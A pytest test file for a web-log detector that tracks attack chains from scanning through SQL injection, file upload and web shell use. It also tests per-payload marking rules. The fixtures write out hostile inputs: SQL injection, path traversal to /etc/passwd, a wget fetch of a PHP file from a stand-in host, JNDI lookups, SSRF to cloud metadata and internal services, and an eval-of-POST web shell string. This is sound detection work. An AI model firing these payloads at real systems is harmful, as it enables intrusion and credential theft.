# SPDX-License-Identifier: Apache-2.0
"""A client that came in is told stage by stage; robots, monitors and scanners that did not get in stay low or unsaid."""

from __future__ import annotations

import random
from typing import Any

import pytest
from memory_events import MemoryEvents, at

from headwater.detect import registry
from headwater.detect.detectors import web_chain
from headwater.detect.web_attempts import PATTERNS
from headwater.detect.web_stages import chains, kinds, read
from headwater.model.kinds import Confidence, EventKind, Severity
from headwater.model.ports import Settings

pl = pytest.importorskip("polars")
BAD, T, SECOND = "203.0.113.7", at("2026-03-03 03:00:00"), 1_000_000_000
LOG = "p1!/var/log/nginx/access.log"


def request(
    after: int, method: str, uri: str, status: int, ip: str = BAD, agent: str = "Mozilla/5.0", **more: Any
) -> tuple:
    stem, _, query = uri.partition("?")
    own = {
        "cs-method": method,
        "cs-uri-stem": stem,
        "cs-uri-query": query or None,
        "sc-status": status,
        "cs-user-agent": agent,
    }
    return (EventKind.WEB_REQUEST, T + after * SECOND, {"src_ip": ip, "fields": own | more})


def run(*requests: tuple, events: MemoryEvents | None = None, **settings: Any) -> list:
    held = (events or MemoryEvents()).say("web.access", LOG, *requests)
    return list(registry.run(web_chain, held, Settings(**settings)))


def file(after: int, path: str) -> MemoryEvents:
    row = (EventKind.FILE_CREATED, T + after * SECOND, {"file_path": path, "fields": {"size": 30, "uid": 33}})
    return MemoryEvents().say("fs.macb", "p1", row)


SCAN = [request(n, "GET", f"/old{n}.bak", 404, agent="dirsearch") for n in range(30)]
TRY = request(40, "GET", "/item.php?id=1'%20or%20'1'='1", 200)
SEND = request(60, "POST", "/admin/upload.php", 200)
USE = [request(90 + n, "POST", "/uploads/a.php", 200, agent="antSword/v2.1") for n in range(3)]


def shell() -> MemoryEvents:
    own = {"trait": "eval-of-request", "match": "eval($_POST[x])", "parameter": "x"}
    path = "/var/www/html/uploads/a.php"
    return file(61, path).say(
        "web.script", "p1!" + path, (EventKind.STATE_CONTENT, None, {"file_path": path, "fields": own})
    )


def test_the_whole_way_is_one_high_finding_that_cites_each_stage_in_order() -> None:
    (found,) = run(*SCAN, TRY, SEND, *USE, events=shell())
    assert found.severity is Severity.HIGH
    assert [found.facts[f"{s}_reach"] for s in ("scan", "exploit", "upload", "shell")] == [
        "requested",
        "answered",
        "confirmed",
        "confirmed",
    ]
    cited = [c.claims["cs-uri-stem"] for c in found.spans if "cs-uri-stem" in c.claims]
    assert cited.index("/item.php") < cited.index("/admin/upload.php") < cited.index("/uploads/a.php")
    assert any(c.claims.get("file_path") == "/var/www/html/uploads/a.php" for c in found.spans)
    assert "antSword" in str(found.facts["user_agent"])
    assert found.text.zh.index("扫描") < found.text.zh.index("上传文件") < found.text.zh.index("使用后门脚本")


def test_a_page_of_the_site_that_runs_commands_is_the_way_in_and_what_it_drops_the_upload() -> None:
    own = {"trait": "exec-of-request", "match": "proc_open($c)", "parameter": "q"}
    page = "/var/www/html/diag.php"
    row = (EventKind.STATE_CONTENT, None, {"file_path": page, "fields": own})
    drop = request(50, "GET", "/diag.php?q=echo+x+%3E+/var/www/html/uploads/a.php", 200)
    (found,) = run(
        request(1, "GET", "/diag.php?q=id", 200), drop, *USE, events=shell().say("web.script", "p1!" + page, row)
    )
    assert [found.facts[f"{s}_reach"] for s in ("exploit", "upload", "shell")] == [
        "confirmed",
        "confirmed",
        "confirmed",
    ]
    assert (found.severity, found.confidence) == (Severity.HIGH, Confidence.MEDIUM)


def test_a_scanner_that_did_not_get_in_is_low_and_told_once() -> None:
    tries = [request(40 + n, "GET", f"/p{n}.php?id=1+union+select+1,2", 404) for n in range(20)]
    (found,) = run(*SCAN, *tries, TRY, request(70, "POST", "/upload.php", 404))
    assert (found.severity, found.confidence) == (Severity.LOW, Confidence.HIGH)
    assert "未见任何一步得手" in found.text.zh


def test_an_answer_without_a_trace_on_the_host_stays_low() -> None:
    assert [f.severity for f in run(*SCAN, TRY, SEND)] == [Severity.LOW]


def test_an_injection_that_the_error_log_shows_is_medium() -> None:
    said = {"src_ip": BAD, "fields": {"message": "PHP message: SQLSTATE[42000]: Syntax error", "severity": "error"}}
    events = MemoryEvents().say(
        "web.error", "p1!/var/log/nginx/error.log", (EventKind.WEB_ERROR, T + 41 * SECOND, said)
    )
    (found,) = run(*SCAN, TRY, events=events)
    assert (found.severity, found.facts["exploit_reach"]) == (Severity.MEDIUM, "confirmed")


def test_a_shell_used_by_one_client_is_not_laid_at_anothers_door() -> None:
    other = [request(200, "POST", "/uploads/a.php", 200, ip="198.51.100.4")]
    found = run(*SCAN, TRY, *other, events=shell())
    assert [(f.src_ip, f.severity) for f in found] == [(BAD, Severity.LOW)]


def test_clients_behind_one_trusted_proxy_are_kept_apart() -> None:
    def behind(rows: list[tuple], address: str) -> list[tuple]:
        return [
            (k, t, {"src_ip": "10.0.0.2", "fields": h["fields"] | {"x-forwarded-for": address}}) for k, t, h in rows
        ]

    rows = behind([*SCAN, TRY], BAD) + behind(USE, "198.51.100.4")
    (found,) = run(*rows, events=shell(), trusted_proxies=("10.0.0.0/24",))
    assert (found.src_ip, found.severity, found.facts["peer_ip"]) == (BAD, Severity.LOW, "10.0.0.2")
    (mixed,) = run(*rows, events=shell())  # without the list the header is not believed: one client, the proxy
    assert mixed.src_ip == "10.0.0.2"


def test_repeated_injections_are_told_though_nothing_else_was_tried() -> None:
    tries = [request(n, "GET", f"/item.php?id={n}+union+select+1", 200) for n in range(6)]
    assert [(f.severity, f.facts["kinds"]) for f in run(*tries)] == [(Severity.LOW, "sql-injection")]


def test_a_crowd_that_got_nowhere_hides_nobody_who_got_in_and_the_first_of_it_are_told() -> None:
    pick, rows = random.Random(4), []
    acts = (
        ("GET", "/item.php?id=1'%20or%20'1'='1"), ("GET", "/a?f=../../../etc/passwd"), ("GET", "/x?cmd=id"),
        ("POST", "/admin/upload.php"), ("GET", "/x?cmd=wget%20http://192.0.2.1/a.php"), ("GET", "/news.html"),
    )  # fmt: skip
    for n in range(60):
        ip, agent = f"198.51.100.{n}", pick.choice(("Mozilla/5.0", "Mozilla/5.0", "sqlmap/1.7"))
        rows += [request(pick.randrange(900), *pick.choice(acts), 200, ip, agent) for _ in range(pick.randint(1, 9))]
    events = shell().say("web.access", LOG, *rows, *SCAN, TRY, SEND, *USE)
    told, every = ([(c.who.address, c.source, tuple(c.stages)) for c in chains(events, (), n)] for n in (5, 1000))
    assert (BAD, 1, ("scan", "exploit", "upload", "shell")) in told
    assert told == [c for c in every if c in told]
    vain = [c for c in every if not {"upload", "shell"} & set(c[2])]
    assert [c for c in told if c in vain][:5] == vain[:5]
    assert 10 < len(told) < len(every)


@pytest.mark.parametrize(
    "rows",
    [
        [request(n, "GET", f"/gone/{n}", 404, agent="Mozilla/5.0 (compatible; Googlebot/2.1)") for n in range(60)],
        [request(n * 10, "GET", "/health?check=a;b", 200, agent="Zabbix") for n in range(50)],
        [request(n, "POST", "/media/upload", 200, agent="rsync-backup") for n in range(10)],
        [
            request(1, "GET", "/search?q=select+a+union+for+workers", 200),
            request(2, "GET", "/news?q=rock+and+roll", 200),
        ],
        [request(1, "POST", "/wp-admin/update.php?action=upload-plugin", 200)],
        [request(1, "GET", "/static/../css/a.css", 200), request(2, "POST", "/import", 200)],
        [request(1, "GET", "/page?tpl={{name}}&price=$%7Bprice%7D", 200), request(2, "POST", "/upload", 200)],
        [request(1, "GET", "/search?q=it's+and+that", 200), request(9, "POST", "/upload", 200)],
    ],
)
def test_everyday_clients_say_nothing(rows: list[tuple]) -> None:
    assert run(*rows, events=file(5, "/var/www/html/wp-content/plugins/x/x.php")) == []


@pytest.mark.parametrize(
    ("uri", "agent", "expected"),
    [
        ("/a?id=1%2527%2520or%25201=1", "", "sql-injection"),
        ("/a?id=1/**/UNION/**/SELECT/**/1", "", "sql-injection"),
        ("/a?id=sleep(5)", "", "sql-injection"),
        ("/a/%2e%2e%2f%2e%2e%2fetc/passwd", "", "path-traversal"),
        ("/a?f=php://filter/convert.base64-encode/resource=x", "", "path-traversal"),
        ("/a?d=rO0ABXNyABFqYXZh", "", "deserialisation"),
        ("/a?d=O:8:%22stdClass%22:0:{}", "", "deserialisation"),
        ("/", "${${lower:j}ndi:ldap://x/a}", "jndi"),
        ("/a?x=%24%7Bjndi:ldap://x/a%7D", "", "jndi"),
        ("/a?n={{7*7}}", "", "template-injection"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "known-exploit"),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", "", "ssrf"),
        ("/fetch?url=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2F", "", "ssrf"),
        ("/fetch?u=//metadata.google.internal/computeMetadata/v1/", "", "ssrf"),
        ("/fetch?u=http://a@169.254.169.254/", "", "ssrf"),
        ("/fetch?u=http://2852039166/latest", "", "ssrf"),
        ("/fetch?u=gopher://127.0.0.1:6379/_%2A1", "", "ssrf"),
        ("/fetch?u=http://127.0.0.1:2375/containers/json", "", "ssrf"),
        ("/fetch?u=http://[::1]:9200/_cat", "", "ssrf"),
        ("/fetch?u=http://0x7f000001/", "", "ssrf"),
        ("/fetch?u=file://c/boot.ini", "", "ssrf"),
        ("http://169.254.169.254/latest/meta-data/", "", "ssrf"),
    ],
)
def test_attempts_are_marked_however_they_are_written(uri: str, agent: str, expected: str) -> None:
    stem, _, query = uri.partition("?")
    row = {
        "cs-uri-stem": stem,
        "cs-uri-query": query,
        "cs-uri": None,
        "cs-user-agent": agent,
        "cs-referer": None,
        "body": None,
    }
    frame = pl.DataFrame([row]).with_columns(read().alias("line")).with_columns(kinds(pl.col("line")).alias("marks"))
    assert frame["marks"][0].to_list() == [expected]
    assert expected in PATTERNS


@pytest.mark.parametrize(
    "uri",
    [
        "/login?redirect_uri=http://localhost:3000/callback", "/oauth?next=https://example.com/a", "/share?u=https%3A%2F%2Fexample.com%2F",
        "/cb?url=http://127.0.0.1:8080/done", "/docs/file-format", "/a?profile=/home", "/health?host=10.0.0.5", "/v/2852039166",
        "/search?q=169.254.169.254+metadata+service+explained", "/a?ref=metadata.google.internal.example.com",
    ],
)  # fmt: skip
def test_ordinary_callbacks_and_searches_are_no_forged_requests(uri: str) -> None:
    assert marks(uri) == []


def test_what_a_body_asks_a_server_to_fetch_is_marked() -> None:
    assert marks("/api/import", '{"source": "http://169.254.169.254/latest/meta-data/iam/"}') == ["ssrf"]
    assert marks("/api/import", "url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO") == ["ssrf"]
    assert (
        marks("/api/import", '{"source": "https://example.com/feed.xml", "notify": "http://localhost:3000/hook"}') == []
    )


def marks(uri: str, body: str | None = None) -> list[str]:
    stem, _, query = uri.partition("?")
    row = {
        "cs-uri-stem": stem,
        "cs-uri-query": query,
        "cs-uri": None,
        "cs-user-agent": None,
        "cs-referer": None,
        "body": body,
    }
    frame = pl.DataFrame([row]).with_columns(read().alias("line")).with_columns(kinds(pl.col("line")).alias("marks"))
    found: list[str] = frame["marks"][0].to_list()
    return found
